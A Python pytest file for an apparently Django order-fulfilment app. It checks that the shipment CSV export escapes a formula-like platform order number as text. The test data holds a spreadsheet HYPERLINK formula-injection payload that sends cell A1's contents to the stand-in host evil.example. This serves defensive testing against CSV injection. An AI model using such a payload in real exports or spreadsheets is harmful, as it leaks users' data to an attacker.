"""The shipment CSV for file platforms never writes platform text as a live formula."""

import csv
import io

import pytest

from orders.models import Order
from orders.selectors import shipment_file
from orders.services import printing, scanning, shipping

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_the_shipment_csv_writes_a_formula_like_order_number_as_text(
    make_order, stocked_product, worker, shop
):
    cup = stocked_product("保温杯", barcode="6901234567892")
    order = make_order([(cup, 1, "59.00")])
    Order.objects.filter(pk=order.pk).update(platform_order_no=LINK)  # as a platform sent it
    printing.print_waybills(orders=[order], actor=worker)
    order.refresh_from_db()
    scanning.scan_item(order=order, scanned={}, code=cup.barcode, actor=worker)
    shipping.ship_order(order=order, actor=worker)

    rows = list(csv.reader(io.StringIO(shipment_file(shop=shop).decode("utf-8-sig"))))

    assert rows[1][0] == "'" + LINK
    assert rows[1][1] == order.order_no
